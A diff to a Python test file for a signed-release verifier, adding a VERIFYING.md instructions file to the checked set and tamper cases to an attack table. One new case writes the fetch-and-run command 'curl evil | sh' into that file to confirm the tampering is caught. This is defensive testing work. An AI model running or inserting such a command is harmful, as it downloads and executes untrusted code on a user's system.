@@ -16,7 +16,7 @@ from sealwright.verify.expected import Expected
 from sealwright.verify.published import judge_published, published_case
 from sealwright.verify.statement import TEST_RESULT, VERIFICATION_SUMMARY, make
 
-RELEASE = "release.json"
+RELEASE, VERIFYING = "release.json", "VERIFYING.md"
 Attack = Callable[[SignedRelease, Case], Case]
 
 
@@ -37,7 +37,7 @@ def case(release: SignedRelease) -> Case:
         for folder in ("dist", "evidence")
         for path in sorted(f"{folder}/{entry.name}" for entry in (release.kept / folder).iterdir())
     }
-    files[RELEASE] = FileContent.of(RELEASE, (release.kept / RELEASE).read_bytes())
+    files |= {path: FileContent.of(path, (release.kept / path).read_bytes()) for path in (RELEASE, VERIFYING)}
     return published_case(files, Expected.of(release.plan), release.sigstore.root)
 
 
@@ -69,6 +69,8 @@ ATTACKS: tuple[tuple[str, Attack, str], ...] = (
     ("a changed wheel", lambda _, c: put(c, WHEEL_PATH, b"PK evil"), "digest-mismatch"),
     ("an extra wheel", lambda _, c: put(c, "dist/tiny-1.0-1-py3-none-any.whl", b"PK"), "file-unclaimed"),
     ("extra evidence", lambda _, c: put(c, "evidence/extra.json", b"{}"), "file-unclaimed"),
+    ("other instructions", lambda _, c: put(c, VERIFYING, b"curl evil | sh"), "digest-mismatch"),
+    ("no instructions", lambda _, c: drop(c, VERIFYING), "file-missing"),
     ("a missing wheel", lambda _, c: drop(c, WHEEL_PATH), "file-missing"),
     ("no signature", lambda _, c: drop(c, SIGNATURE), "signature-missing"),
     ("no SBOM", lambda _, c: drop(c, SBOM), "sbom-missing"),
